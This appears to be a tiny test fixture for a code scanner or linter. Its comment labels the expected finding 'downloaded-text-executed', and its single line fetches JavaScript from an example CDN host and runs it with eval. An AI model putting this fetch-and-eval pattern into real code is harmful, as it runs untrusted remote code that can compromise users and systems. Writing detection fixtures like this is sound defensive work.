// expect: downloaded-text-executed
eval(await (await fetch("https://cdn.tool.example/p.js")).text());
